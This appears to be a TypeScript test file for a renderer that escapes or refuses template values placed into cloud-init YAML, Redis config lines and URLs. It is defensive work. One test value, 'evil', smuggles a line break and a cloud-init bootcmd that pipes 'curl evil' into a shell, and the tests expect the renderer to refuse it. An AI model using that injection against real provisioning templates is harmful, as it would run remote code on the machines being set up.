// Values are escaped for where they land (YAML, config lines, URLs) or refused (issue #15 item 12).

import { describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { renderFor } from './contextual-render.js';

const values: Record<string, string> = {
  evil: 'pw\nbootcmd:\n  - curl evil | sh',
  colon: 'a: b # c',
  quote: `it's "quoted" \\ here`,
  plain: 'S3cret-pass_1',
  spaced: 'two words',
  host: '127.10.0.11:6379',
};
const lookup = (path: string) => values[path.replace(/^vars\./, '')];
const yaml = (text: string) => renderFor('yaml', text, lookup, 'cloud-init.yaml');

describe('YAML (cloud-init)', () => {
  it('refuses a line break where it would add YAML lines: a top-level bootcmd cannot be injected', () => {
    const template =
      '#cloud-config\nwrite_files:\n  - path: /etc/redis.conf\n    content: |\n      requirepass {{ vars.evil }}\n';
    expect(() => yaml(template)).toThrow(
      /\{\{ vars\.evil \}\} in cloud-init\.yaml:5: its value has a line break .* put the reference inside double quotes/,
    );
    expect(() => yaml('password: {{ vars.evil }}\n')).toThrow(/line break/);
    expect(() => yaml("password: '{{ vars.evil }}'\n")).toThrow(/line break/);
  });

  it('escapes inside double quotes, so any value stays one scalar', () => {
    for (const name of ['evil', 'colon', 'quote']) {
      const out = yaml(`password: "{{ vars.${name} }}"\nnext: 1\n`);
      expect(parse(out)).toEqual({ password: values[name], next: 1 });
    }
  });

  it("doubles ' inside single quotes", () => {
    expect(parse(yaml("password: '{{ vars.quote }}'\n"))).toEqual({ password: values.quote });
  });

  it('quotes a whole unquoted value that needs it, and leaves plain values plain', () => {
    expect(parse(yaml('a: {{ vars.colon }}\nb: {{ vars.plain }}\nc:\n  - {{ vars.colon }}\n'))).toEqual({
      a: values.colon,
      b: values.plain,
      c: [values.colon],
    });
    expect(yaml('b: {{ vars.plain }}\n')).toBe('b: S3cret-pass_1\n');
  });

  it('refuses a value that would change an unquoted scalar it is embedded in', () => {
    expect(() => yaml('runcmd:\n  - redis-cli -a {{ vars.colon }} ping\n')).toThrow(/quote the whole scalar/);
    expect(yaml('runcmd:\n  - redis-cli -a {{ vars.plain }} ping\n')).toBe(
      'runcmd:\n  - redis-cli -a S3cret-pass_1 ping\n',
    );
  });

  it('takes any one-line value inside a block scalar (a config file in write_files)', () => {
    const out = yaml('files:\n  content: |\n    requirepass {{ vars.colon }}\n');
    expect(parse(out)).toEqual({ files: { content: `requirepass ${values.colon}\n` } });
  });
});

describe('configuration lines and URLs', () => {
  it('refuses line breaks in line-oriented configuration', () => {
    expect(() => renderFor('lines', 'requirepass {{ vars.evil }}\n', lookup, 'redis.conf')).toThrow(
      /each setting must stay on its own line/,
    );
    expect(renderFor('lines', 'requirepass {{ vars.colon }}\n', lookup, 'redis.conf')).toBe(
      'requirepass a: b # c\n',
    );
  });

  it('percent-encodes values in the path and query, keeps a base URL and host, refuses what cannot be a host', () => {
    const url = (text: string, extra: Record<string, string> = {}) =>
      renderFor('url', text, (path) => extra[path] ?? lookup(path), 'url=');
    expect(url('http://127.0.0.1:9090/api?x={{ vars.spaced }}&h={{ vars.host }}')).toBe(
      'http://127.0.0.1:9090/api?x=two%20words&h=127.10.0.11%3A6379',
    );
    expect(url('{{ base }}/q/{{ vars.quote }}', { base: 'http://127.0.0.1:9093' })).toBe(
      `http://127.0.0.1:9093/q/${encodeURIComponent(values.quote as string)}`,
    );
    expect(url('http://{{ vars.host }}/metrics')).toBe('http://127.10.0.11:6379/metrics');
    expect(() => url('http://{{ vars.colon }}/metrics')).toThrow(/is not a host or port/);
    expect(() => url('{{ base }}', { base: 'http://x/ y' })).toThrow(/spaces or control characters/);
  });
});
